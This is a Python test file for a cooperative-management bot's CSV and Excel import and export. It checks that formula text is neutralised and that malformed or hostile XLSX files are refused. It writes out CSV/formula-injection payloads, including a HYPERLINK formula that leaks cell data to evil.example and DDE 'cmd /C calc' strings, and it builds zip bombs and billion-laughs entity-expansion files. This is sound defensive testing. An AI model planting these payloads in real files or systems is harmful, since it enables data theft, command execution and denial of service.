"""Files in and out (outputs/): hostile imports give one clean line, exports never hold a
live formula. Hostile files are built here, at run time."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot.app import App
from db.models import AuditEntry, Cooperative, Member, Report
from ground.i18n import Translations
from ground.settings import SUPPORTED_LOCALES
from knowledge.forms import monthly_report
from operations.reports_export import export_reports
from outputs.charts import money_scale, value_label
from outputs.cooperatives import (
    CooperativeFileError,
    export_cooperatives,
    import_cooperatives,
    read_rows,
)
from outputs.events import EventFileError, import_events, read_event_rows
from outputs.spreadsheets import (
    Columns,
    Limits,
    SpreadsheetError,
    read_table,
    safe_cell,
    write_table,
)

NOW = datetime(2026, 11, 28, 3, 0, tzinfo=UTC)
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
HEADER = ["Tên", "Mã số", "Loại hình", "Lĩnh vực", "Xã/phường", "Địa chỉ", "Điện thoại"]
ROW = ["HTX Chè (test)", "T-01", "HTX", "Khác", "Xã Bắc Hà", "Thôn 1", "0912345678"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def xlsx(path: Path, rows: list[list[object]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def rewrite_member(path: Path, name: str, change) -> Path:  # type: ignore[no-untyped-def]
    """Rewrite the zip at ``path`` with member ``name`` replaced by ``change(old text)``
    (``None``: left out)."""
    with zipfile.ZipFile(path) as src:
        members = {i.filename: src.read(i) for i in src.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for member, data in members.items():
            if member == name:
                new = change(data.decode())
                if new is None:
                    continue
                data = new.encode()
            dst.writestr(member, data)
    return path


def clean_error(path: Path, match: str) -> None:
    with pytest.raises(CooperativeFileError, match=match) as info:
        read_rows(path)
    assert "\n" not in str(info.value) and "Traceback" not in str(info.value)


# --- formulas never go out live --------------------------------------------------------------


def test_formula_like_text_is_written_as_text_in_xlsx_and_csv(tmp_path: Path) -> None:
    rows = [[text, 5, None] for text in HOSTILE]
    write_table(tmp_path / "t.xlsx", ["Tên", "Số", "Trống"], rows, "xlsx")
    write_table(tmp_path / "t.csv", ["Tên", "Số", "Trống"], rows, "csv")

    with zipfile.ZipFile(tmp_path / "t.xlsx") as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert [str(c.value).strip() for c in cells] == [t.strip() for t in HOSTILE]
    assert [r[1].value for r in sheet.iter_rows(min_row=2)] == [5] * len(HOSTILE)

    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert [r[0] for r in table[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in table[1:]] == ["5"] * len(HOSTILE)


@pytest.mark.parametrize("text", ["HTX =1", "1-2", "Nông – lâm", "", "0912345678"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text, "csv") == text and safe_cell(text, "xlsx") == text


async def test_cooperative_export_neutralises_imported_formulas(app: App, tmp_path: Path) -> None:
    async with app.conversation.sessions() as session:
        for i, text in enumerate(HOSTILE):
            session.add(Cooperative(code=f"F-{i}", name=text.strip() or "x", kind="htx",
                                    sector="khac", commune="Xã Bắc Hà", commune_code=1,
                                    address=text, status="active", created_at=NOW,
                                    updated_at=NOW))  # fmt: skip
        await session.commit()
        await export_cooperatives(session, tmp_path / "c.xlsx", "xlsx", "cli", NOW)
        await export_cooperatives(session, tmp_path / "c.csv", "csv", "cli", NOW)
        audit = (await session.execute(select(AuditEntry))).scalars().all()
    assert sorted((a.action, a.target) for a in audit) == [
        ("export_cooperatives", "c.csv"),
        ("export_cooperatives", "c.xlsx"),
    ]
    sheet = load_workbook(tmp_path / "c.xlsx").active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
    with (tmp_path / "c.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r)


async def test_report_export_neutralises_member_answers(app: App, tmp_path: Path) -> None:
    async with app.conversation.sessions() as session:
        coop = Cooperative(code="C1", name="@HTX", kind="htx", sector="khac", commune="Xã Bắc Hà",
                           commune_code=1, status="active", created_at=NOW, updated_at=NOW)  # fmt: skip
        session.add(coop)
        await session.flush()
        member = Member(channel="console", user_id="x", display_name="=cmd|' /C calc'!A0",
                        locale="vi", role="member", opted_out=False, unreachable=False,
                        created_at=NOW, cooperative_id=coop.id, coop_role="manager",
                        link_status="approved")  # fmt: skip
        session.add(member)
        await session.flush()
        answers = {"members_official": 12, "revenue": 46_000_000, "main_products": "=1+1",
                   "difficulties": "+SUM(A1:A9)"}  # fmt: skip
        session.add(Report(period="2026-11", cooperative_id=coop.id, answers=answers, version=1,
                           submitted_by=member.id, submitted_at=NOW))  # fmt: skip
        await session.commit()
        t = Translations(SUPPORTED_LOCALES, "vi", HANOI).get("vi")
        for fmt in ("xlsx", "csv"):
            path = tmp_path / f"r.{fmt}"
            assert await export_reports(session, monthly_report(), "2026-11", path, fmt, t) == 1
    sheet = load_workbook(tmp_path / "r.xlsx").active
    assert sheet is not None
    values = {c.value: c for c in next(sheet.iter_rows(min_row=2))}
    for text in ("=cmd|' /C calc'!A0", "=1+1", "+SUM(A1:A9)", "@HTX"):
        assert values[text].data_type == "s"
    assert 46_000_000 in values  # numbers stay numbers
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd" in text and "'=1+1" in text and "'+SUM" in text and "'@HTX" in text


# --- hostile XLSX --------------------------------------------------------------------------


def test_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    path = xlsx(tmp_path / "bomb.xlsx", [HEADER, ROW])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/media/padding.bin", "w") as fh:  # 60 MB of zeros, ~60 KB packed
            chunk = b"\0" * (1024 * 1024)
            for _ in range(60):
                fh.write(chunk)
    assert path.stat().st_size < 1024 * 1024
    clean_error(path, "giải nén ra hơn 50 MB")


def test_sizes_the_zip_lies_about_are_not_believed(tmp_path: Path) -> None:
    """A part that claims 5,000 bytes but unpacks to 3 MB is cut off at what it claimed."""
    import struct

    from outputs.cooperatives import COOPERATIVE_COLUMNS

    path = xlsx(tmp_path / "liar.xlsx", [HEADER, ROW])
    row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace("</sheetData>", row * 80_000 + "</sheetData>"),
    )
    with zipfile.ZipFile(path) as archive:
        real = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    assert real > 3_000_000
    data = path.read_bytes()
    assert data.count(struct.pack("<I", real)) == 2  # the local header and the directory
    path.write_bytes(data.replace(struct.pack("<I", real), struct.pack("<I", 5_000)))
    with pytest.raises(SpreadsheetError, match="tệp Excel hỏng"):
        read_table(path, COOPERATIVE_COLUMNS, limits=Limits(unpacked_bytes=1_000_000))


def test_highly_compressed_member_is_refused(tmp_path: Path) -> None:
    path = xlsx(tmp_path / "ratio.xlsx", [HEADER, ROW])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", b"\0" * (4 * 1024 * 1024))
    clean_error(path, "nén bất thường")


def test_entity_expansion_is_refused(tmp_path: Path) -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )

    def laugh(xml: str) -> str:
        return f"<!DOCTYPE lolz [{entities}]>" + xml.replace("HTX Chè (test)", "&lol9;")

    for member in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"):
        path = xlsx(tmp_path / "laughs.xlsx", [HEADER, ROW])
        rewrite_member(path, member, laugh)
        clean_error(path, "DTD/entity")


def test_openpyxl_parses_through_defusedxml(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With coopbot's own look at the XML heads switched off, defusedxml still refuses."""
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML
    monkeypatch.setattr("outputs.spreadsheets._DTD", re.compile(rb"(?!x)x"))
    ents = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    path = xlsx(tmp_path / "laughs.xlsx", [HEADER, ROW])
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: f"<!DOCTYPE worksheet [{ents}]>" + xml.replace("HTX Chè (test)", "&b;"),
    )
    clean_error(path, "DTD/entity")


def test_broken_xml_and_missing_sheet_and_not_a_zip(tmp_path: Path) -> None:
    path = xlsx(tmp_path / "broken.xlsx", [HEADER, ROW])
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) // 2])
    clean_error(path, "tệp Excel hỏng")
    path = xlsx(tmp_path / "nosheet.xlsx", [HEADER, ROW])
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda xml: None)
    clean_error(path, "tệp Excel hỏng|không có trang tính")
    path = xlsx(tmp_path / "noworkbook.xlsx", [HEADER, ROW])
    rewrite_member(path, "xl/workbook.xml", lambda xml: "<workbook")
    clean_error(path, "tệp Excel hỏng")
    (tmp_path / "text.xlsx").write_text("Tên,Mã số\n", encoding="utf-8")
    clean_error(tmp_path / "text.xlsx", "không phải tệp .xlsx")
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    clean_error(tmp_path / "old.xls", "Excel cũ")


def test_rows_past_the_claimed_dimension_are_read(tmp_path: Path) -> None:
    rows = [HEADER, *[[f"HTX {i}", f"T-{i}", *ROW[2:]] for i in range(5)]]
    path = xlsx(tmp_path / "dim.xlsx", rows)
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:G2"/>', xml),
    )
    assert [line for line, _ in read_rows(path)] == [2, 3, 4, 5, 6]


async def test_year_one_dates_import_as_rejections(app: App, tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_text(
        "Tên sự kiện,Bắt đầu\nHội chợ,1/1/0001\nHội chợ 2,20/11/2026\nHội chợ 3,01/01/0001 08:00\n",
        encoding="utf-8",
    )
    book = xlsx(tmp_path / "events.xlsx", [["Tên sự kiện", "Bắt đầu"], ["Hội chợ", "1/1/0001"]])
    async with app.conversation.sessions() as session:
        report = await import_events(session, path, NOW, HANOI)
        assert report.created == 1 and [line for line, _ in report.rejected] == [2, 4]
        assert "không đúng dạng ngày" in report.rejected[1][1]
        report = await import_events(session, book, NOW, HANOI)
        assert report.created == 0 and [line for line, _ in report.rejected] == [2]


# --- CSV and rows --------------------------------------------------------------------------


async def test_unbalanced_quote_does_not_swallow_the_next_row_silently(
    app: App, tmp_path: Path
) -> None:
    path = tmp_path / "quote.csv"
    lines = [
        ",".join(HEADER),
        'HTX "A (test),A-1,HTX,Khác,Xã Bắc Hà,,',  # a quote inside a cell: fine in CSV
        '"HTX B (test),B-1,HTX,Khác,Xã Bắc Hà,,',  # opens a quote it never closes
        "HTX C (test),C-1,HTX,Khác,Xã Bắc Hà,,",
        "HTX D (test),D-1,HTX,Khác,Xã Bắc Hà,,",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    async with app.conversation.sessions() as session:
        report = await import_cooperatives(session, path, NOW)
    assert report.created == 1
    ((line, reason),) = report.rejected
    assert line == 3 and "thiếu dấu ngoặc kép" in reason and "dòng 3–5" in reason


def test_events_description_may_span_lines_but_not_swallow_rows(tmp_path: Path) -> None:
    path = tmp_path / "ev.csv"
    path.write_text(
        'Tên sự kiện,Bắt đầu,Mô tả\nA,20/11/2026,"dòng một\ndòng hai"\n'
        'B,21/11/2026,"không đóng\nC,22/11/2026,x\n',
        encoding="utf-8",
    )
    rows = read_event_rows(path)
    assert rows[0].values["description"] == "dòng một\ndòng hai" and not rows[0].problems
    assert rows[1].line == 4 and rows[1].problems
    book = xlsx(
        tmp_path / "ev.xlsx", [["Tên sự kiện", "Bắt đầu"], ["Hội chợ\nnông sản", "20/11/2026"]]
    )
    (row,) = read_event_rows(book)
    assert row.values["title"] == "Hội chợ\nnông sản" and not row.problems  # Alt+Enter in Excel


async def test_codes_are_the_same_whatever_their_case(app: App, tmp_path: Path) -> None:
    path = tmp_path / "dup.csv"
    body = [
        ",".join(HEADER),
        "A (test),dup-2,HTX,Khác,Xã Bắc Hà,,",
        "B (test),DUP-2,HTX,Khác,Xã Bắc Hà,,",
    ]
    path.write_text("\n".join(body) + "\n", encoding="utf-8")
    async with app.conversation.sessions() as session:
        report = await import_cooperatives(session, path, NOW)
        assert report.created == 1 and report.rejected[0][0] == 3
        assert "trùng với dòng 2" in report.rejected[0][1]
        path.write_text(
            ",".join(HEADER) + "\nA mới (test), Dup-2 ,HTX,Khác,Xã Bắc Hà,,\n", encoding="utf-8"
        )
        report = await import_cooperatives(session, path, NOW)
        assert (report.created, report.updated) == (0, 1)
        codes = (await session.execute(select(Cooperative.code))).scalars().all()
    assert codes == ["DUP-2"]


def test_title_row_above_the_headers(tmp_path: Path) -> None:
    path = xlsx(
        tmp_path / "title.xlsx",
        [["DANH SÁCH HỢP TÁC XÃ NĂM 2026"], [], ["Cập nhật: 28/11/2026"], HEADER, ROW],
    )
    rows = read_rows(path)
    assert [line for line, _ in rows] == [5] and rows[0][1]["code"] == "T-01"
    path = tmp_path / "title.csv"
    path.write_text("Danh sách HTX\n\n" + ";".join(HEADER) + "\n" + ";".join(ROW) + "\n")
    assert [(line, row["code"]) for line, row in read_rows(path)] == [(4, "T-01")]
    path = tmp_path / "deep.csv"
    path.write_text("\n".join(["Tiêu đề"] * 12 + [",".join(HEADER)]) + "\n", encoding="utf-8")
    clean_error(path, "thiếu cột bắt buộc")


def test_limits_on_rows_and_cells_and_nul_bytes(tmp_path: Path) -> None:
    columns = Columns({"a": ("A",), "b": ("B",)}, ["a"])
    path = tmp_path / "t.csv"
    path.write_text("A,B\n" + "x,y\n" * 6, encoding="utf-8")
    with pytest.raises(SpreadsheetError, match="hơn 5 dòng"):
        read_table(path, columns, limits=Limits(rows=5))
    path.write_text("A,B\n" + "x" * 50 + ",y\nx\0z,y\n", encoding="utf-8")
    rows = read_table(path, columns, limits=Limits(cell_chars=20))
    assert "dài quá 20" in rows[0].problems[0]
    assert rows[1].values["a"] == "xz" and not rows[1].problems
    with pytest.raises(SpreadsheetError, match="lớn quá"):
        read_table(path, columns, limits=Limits(file_bytes=10))
    (tmp_path / "utf16.csv").write_bytes("Tên\nHợp\n".encode("utf-16"))
    with pytest.raises(SpreadsheetError, match="UTF-8"):
        read_table(tmp_path / "utf16.csv", columns)


def test_error_lines_are_translated(tmp_path: Path) -> None:
    en = Translations(SUPPORTED_LOCALES, "vi", HANOI).get("en")
    with pytest.raises(CooperativeFileError) as info:
        read_rows(tmp_path / "x.pdf")
    line = info.value.render(en)
    assert "only .csv or .xlsx" in line and ".pdf" in line
    with pytest.raises(EventFileError, match="không tìm thấy"):
        read_event_rows(tmp_path / "none.csv")


# --- the chart -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("values", "divisor", "unit"),
    [
        ([46_000_000, 0], 1_000_000, "triệu đồng"),
        ([2_500_000_000], 1_000_000_000, "tỷ đồng"),
        ([900_000], 1_000, "nghìn đồng"),
        ([0, 0], 1, "đồng"),
    ],
)
def test_chart_money_axis_is_scaled_to_the_data(values: list[int], divisor: int, unit: str) -> None:
    assert money_scale(values) == (divisor, unit)
    assert value_label(max(values) / divisor, divisor > 1) not in ("0", "0.0") or max(values) == 0


# --- progress ------------------------------------------------------------------------------


async def test_long_imports_show_progress_on_a_terminal(app: App, tmp_path: Path) -> None:
    import io

    from outputs.progress import TerminalProgress

    rows = [",".join(HEADER)] + [
        f"HTX {i} (test),P-{i},HTX,Khác,{'Xã Bắc Hà' if i % 10 else 'Nowhere'},,"
        for i in range(2500)
    ]
    path = tmp_path / "many.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    stream = io.StringIO()
    progress = TerminalProgress(stream, force=True)
    async with app.conversation.sessions() as session:
        report = await import_cooperatives(session, path, NOW, "cli", progress)
    progress.finish()
    assert report.created == 2250 and len(report.rejected) == 250
    shown = stream.getvalue()
    assert "\r1000 dòng đã xử lý, 250 dòng bị loại" in shown
    assert shown.endswith("2250 dòng đã xử lý, 250 dòng bị loại\n")
    quiet = io.StringIO()
    TerminalProgress(quiet)(1, 0)  # not a terminal: nothing written
    assert quiet.getvalue() == ""


async def test_past_events_are_imported_with_a_warning(app: App, tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_text(
        "Tên sự kiện,Bắt đầu,Kết thúc\nCũ,20/11/2025,\nHôm nay,28/11/2026,\n"
        "Đang diễn ra,20/11/2026,30/11/2026\nMới,20/12/2026,\n",
        encoding="utf-8",
    )
    async with app.conversation.sessions() as session:
        report = await import_events(session, path, NOW, HANOI)
    assert report.created == 4 and report.past == [(2, "Cũ")]
    assert "1 sự kiện đã qua" in report.render() and "Dòng 2: Cũ" in report.render()


def test_long_exports_report_progress(tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        calls: list[tuple[int, int]] = []
        rows = ([f"HTX {i}", i] for i in range(2500))
        count = write_table(
            tmp_path / f"big.{fmt}",
            ["Tên", "Số"],
            rows,
            fmt,
            progress=lambda d, r, calls=calls: calls.append((d, r)),
        )
        assert count == 2500 and calls == [(1000, 0), (2000, 0), (2500, 0)]
